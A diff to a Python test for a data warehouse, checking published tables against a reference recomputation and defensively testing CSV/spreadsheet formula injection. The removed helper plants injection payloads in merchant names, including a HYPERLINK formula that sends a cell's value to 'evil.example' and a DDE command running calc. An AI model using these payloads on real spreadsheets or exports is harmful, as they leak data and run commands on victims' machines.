@@ -1,12 +1,11 @@
 """The published warehouse agrees with an independent recomputation from the raw zone."""
 import datetime as dt
 
-from tests.conftest import FIRST, PUBLISHED, TINY_DAYS, copy_root
+from orchestration import runlog
+from tests.conftest import FIRST, PUBLISHED, TINY_DAYS
 from tests.published import query
-from tests.reference.harder import make_harder
 from tests.reference.recompute import PUBLISHED as TABLES
 from tests.reference.recompute import differences
-from tests.runs import night
 
 
 def test_every_published_table_equals_the_reference_recomputation(published_root):
@@ -15,17 +14,14 @@ def test_every_published_table_equals_the_reference_recomputation(published_root
     assert not diffs, {table: rows[:3] for table, rows in diffs.items()}
 
 
-def test_the_reference_agrees_on_cases_the_generator_never_makes(tiny_raw, spark, tmp_path):
+def test_the_reference_agrees_on_cases_the_generator_never_makes(harder_backfilled):
     """Same-instant and same-day campaign actions, events at change instants, clicks at 168 h
     and 168 h + 1 µs, attribution ties, purchases at local midnight, redeliveries, a missing
     partition, changing snapshots (tests/reference/harder.py), over all 8 tiny days so that a
     week-old click is inside the data. The night whose saves never landed publishes with a
     warning that names them (issue 19)."""
-    root = copy_root(tiny_raw, tmp_path / "root")
-    missing = make_harder(root)["missing saves partition"].split("=", 1)[1]
-    hostile = _hostile_merchant_names(root)
+    root, planted = harder_backfilled.finished(), harder_backfilled.planted
     last = FIRST + dt.timedelta(days=TINY_DAYS - 1)
-    records = night(root, FIRST, last)
 
     diffs = differences(root, last)
 
@@ -38,28 +34,11 @@ def test_the_reference_agrees_on_cases_the_generator_never_makes(tiny_raw, spark
     quarantined = query(wh, "select coalesce(event_id, order_id), reason from read_parquet("
                             f"'{root}/quarantine/*/*/*.parquet', union_by_name = true) where event_id like 'H%'")
     assert sorted(quarantined) == [("HI-fixed", "bad_enum"), ("HS-group", "bad_enum")]  # their other copies: accepted
-    _statement_shows_hostile_names_as_text(root, hostile)
-    warned = next(r for r in records if str(r["ingest_date"]) == missing)
+    _statement_shows_hostile_names_as_text(root, planted["merchant names"])
+    missing = planted["missing saves"]
+    warned = next(r for r in runlog.read_all(root) if str(r["ingest_date"]) == missing and r["status"] == "success")
     assert f"saves dt={missing}: no data file landed (the night counts no saves at all)" in warned["message"]
     assert "no data file landed" in open(warned["data_docs"]).read()
-
-
-def _hostile_merchant_names(root) -> dict[str, str]:
-    """Merchant names a spreadsheet would run, in every raw snapshot (issue 17)."""
-    import pyarrow as pa
-    import pyarrow.compute as pc
-    import pyarrow.parquet as pq
-
-    names = {}
-    for f in sorted((root / "raw" / "merchants").glob("dt=*/*.parquet")):
-        table = pq.read_table(f)
-        ids = table["merchant_id"].to_pylist()
-        names = names or {ids[0]: '=HYPERLINK("http://evil.example/?x="&A1,"click")', ids[1]: "=cmd|' /C calc'!A0",
-                          ids[2]: "@SUM(1+1)", ids[3]: "+1-1"}
-        new = pc.if_else(pc.is_in(table["merchant_id"], pa.array(list(names))),
-                         pa.array([names.get(i, "") for i in ids], pa.string()), table["merchant_name"])
-        pq.write_table(table.set_column(table.schema.get_field_index("merchant_name"), "merchant_name", new), f)
-    return names
 
 
 def _statement_shows_hostile_names_as_text(root, names: dict[str, str]) -> None:
